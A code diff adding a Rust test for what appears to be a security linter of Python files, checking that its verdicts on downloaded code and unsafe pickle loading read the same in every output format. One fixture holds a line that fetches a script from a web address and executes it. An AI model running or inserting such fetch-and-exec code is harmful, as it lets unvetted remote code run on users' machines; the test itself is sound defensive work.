@@ -103,6 +103,26 @@ fn json_is_as_its_schema_says() {
 }
 
 #[test]
+fn the_verdict_is_one_of_code_in_every_format() {
+    let bad = "import requests\nexec(requests.get('https://example.org/a.py').text)\n";
+    let files = [("good.py", "print('hello')\n"), ("bad.py", bad), ("load.py", "import pickle\npickle.load(f)\n")];
+    let project = Project::new(&files);
+    for (file, reason) in [
+        ("good.py", "nothing speaks against running it"),
+        ("bad.py", "do not run it as it is; 1 finding: downloaded-code"),
+        ("load.py", "look at this before it is run; 1 finding: unsafe-load"),
+    ] {
+        for format in ["plain", "json", "sarif", "github", "html"] {
+            let told = text(&project.lint(&[file, "--format", format]).stdout);
+            assert!(told.contains(reason), "{format}: {told}");
+            assert!(!told.contains("oading it reads") && !told.contains("do not load it;"), "{format}: {told}");
+        }
+    }
+    let tests = text(&project.lint(&["bad.py", "--format", "junit"]).stdout);
+    assert!(tests.contains("failures=\"1\"") && tests.contains("downloaded-code"), "{tests}");
+}
+
+#[test]
 fn exceptions_of_the_settings_apply() {
     let project = Project::new(&[
         ("load.py", "import torch\ntorch.load('model.pt', weights_only=False)\n"),
